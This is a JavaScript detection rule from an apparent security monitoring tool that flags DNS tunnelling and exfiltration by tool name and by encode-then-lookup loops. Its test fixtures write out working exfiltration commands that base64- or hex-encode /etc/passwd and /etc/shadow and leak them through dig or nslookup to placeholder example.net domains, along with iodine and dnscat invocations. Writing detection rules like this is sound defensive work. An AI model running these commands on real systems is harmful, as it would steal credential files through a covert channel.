import { commandRule } from "../../command-rule.js";
import { find } from "../../shell/look.js";

/** A tool that carries data inside look-ups of names was started, or a loop asks for names made of data. */
export const namesUsedAsTunnel = commandRule({
  id: "names-used-as-tunnel",
  alertType: "Picket_NamesUsedAsTunnel",
  name: "Tunnel through names",
  severity: "High",
  about:
    "A tool that carries data inside look-ups of names was started, or a loop asks for names made of data.",
  tactics: ["Command and Control", "Exfiltration"],
  techniques: ["T1071.004", "T1572"],
  falsePositives: ["None are known on devices."],
  witness: ["iodine", "dnscat", "dns2tcp", "dnsexfil", "dig ", "nslookup", "host ", "dnsteal", "sliver-dns"],
  sees: (reading) =>
    find(reading, /^(?:iodined?|dnscat2?|dns2tcp[cd]?|dnsteal(?:\.py)?|dnsexfiltrator|heyoka|ozymandns)$/) ??
    (reading.commands.some(({ name }) => /^(?:xxd|base64|base32|od|hexdump|split|fold)$/.test(name))
      ? find(reading, /^(?:dig|nslookup|host|drill|getent)$/, ({ text }) =>
          /\.[a-z0-9-]+\.[a-z]{2,}\b/i.test(text),
        )
      : undefined),
  did: "opened a tunnel through names",
  because: "data leaves inside look-ups of names",
  fires: [
    "iodine -f -P x t.example.net",
    "./dnscat --dns server=203.0.113.9",
    "sh -c for l in $(base64 -w60 /etc/passwd); do dig $l.x.example.net; done",
    "bash -c xxd -p /etc/shadow | fold -w 60 | while read l; do nslookup $l.d.example.net; done",
  ],
  silent: [
    "dig example.net",
    "nslookup updates.example.net",
    "host -t txt example.net",
    "sh -c dig +short example.net | base64",
    "named -f",
  ],
});
